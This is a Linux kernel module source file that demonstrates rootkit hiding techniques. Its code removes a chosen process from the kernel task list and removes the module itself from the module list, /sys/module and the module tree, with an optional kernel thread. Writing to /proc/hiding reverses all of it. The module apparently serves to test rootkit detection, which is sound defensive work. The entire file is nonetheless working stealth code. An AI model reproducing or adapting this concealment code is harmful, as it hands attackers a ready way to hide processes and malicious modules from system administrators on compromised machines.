// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
/*
 * What rootkits do: insmod hiding.ko [process=PID] [list=1] [sysfs=1] [tree=ADDRESS] [thread=1].
 * It takes a process out of the list of processes, and itself out of the list of modules, out of
 * /sys/module and out of the tree of modules (mod_tree, of which it needs the address); with the
 * tree, struct module loses the pointer by which it is known in memory. It may have a thread of its
 * own. Writing to the file /proc/hiding puts all back (and the module can be removed again).
 */
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rbtree_latch.h>
#include <linux/sched/signal.h>
#include <linux/version.h>

static int process;
module_param(process, int, 0);
static bool list; /* leave the list of modules */
module_param(list, bool, 0);
static bool sysfs; /* leave /sys/module */
module_param(sysfs, bool, 0);
static unsigned long tree; /* leave this tree of modules */
module_param(tree, ulong, 0);
static bool thread;
module_param(thread, bool, 0);

static struct task_struct *victim;
static struct list_head *before;

static DECLARE_COMPLETION(leave);
static DECLARE_COMPLETION(left);

/* Its end is told before it has ended: the module may be gone then, and the thread is not. */
static int sleeper(void *unused)
{
	wait_for_completion_interruptible(&leave);
	kthread_complete_and_exit(&left, 0);
}

/* The parts of a module that are in the tree, one from Linux 6.4 on by kind of memory. */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
#define part module_memory
#define for_each_part(p)                                            \
	for (p = THIS_MODULE->mem; p < THIS_MODULE->mem + MOD_INIT_TEXT; p++) \
		if (p->size)
#else
#define part module_layout
#define for_each_part(p) for (p = &THIS_MODULE->core_layout; p; p = NULL)
#endif

/* kernel/module/tree_lookup.c */
static bool less(struct latch_tree_node *a, struct latch_tree_node *b)
{
	struct mod_tree_node *x = container_of(a, struct mod_tree_node, node);
	struct mod_tree_node *y = container_of(b, struct mod_tree_node, node);

	return container_of(x, struct part, mtn)->base < container_of(y, struct part, mtn)->base;
}

static const struct latch_tree_ops tree_ops = {.less = less};

static void leave_tree(void)
{
	struct part *p;

	THIS_MODULE->mkobj.mod = NULL;
	for_each_part(p)
		latch_tree_erase(&p->mtn.node, (struct latch_tree_root *)tree, &tree_ops);
	synchronize_rcu();
}

static void enter_tree(void)
{
	struct part *p;

	for_each_part(p)
		latch_tree_insert(&p->mtn.node, (struct latch_tree_root *)tree, &tree_ops);
	THIS_MODULE->mkobj.mod = THIS_MODULE;
}

static void hide(void)
{
	if (process) {
		rcu_read_lock();
		victim = pid_task(find_vpid(process), PIDTYPE_PID);
		if (victim)
			get_task_struct(victim);
		rcu_read_unlock();
	}
	if (victim)
		list_del_rcu(&victim->tasks);
	if (list) {
		before = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	}
	if (sysfs)
		list_del_init(&THIS_MODULE->mkobj.kobj.entry);
	if (tree)
		leave_tree();
	pr_info("hiding: process %d list %d sysfs %d tree %d thread %d\n", victim ? process : 0,
		list, sysfs, !!tree, thread);
}

static ssize_t show_all(struct file *file, const char __user *buf, size_t size, loff_t *at)
{
	if (victim) {
		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
		put_task_struct(victim);
	}
	victim = NULL;
	if (list)
		list_add(&THIS_MODULE->list, before);
	if (sysfs)
		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &THIS_MODULE->mkobj.kobj.kset->list);
	if (tree)
		enter_tree();
	list = sysfs = false;
	tree = 0;
	return (ssize_t)size;
}

static const struct proc_ops ops = {.proc_write = show_all};

static int __init hiding_init(void)
{
	if (!proc_create("hiding", 0600, NULL, &ops))
		return -ENOMEM;
	if (thread && IS_ERR(kthread_run(sleeper, NULL, "lvsleeper"))) {
		remove_proc_entry("hiding", NULL);
		return -ENOMEM;
	}
	hide();
	return 0;
}

static void __exit hiding_exit(void)
{
	remove_proc_entry("hiding", NULL);
	if (!thread)
		return;
	complete(&leave);
	wait_for_completion(&left);
}

module_init(hiding_init);
module_exit(hiding_exit);
MODULE_LICENSE("GPL");
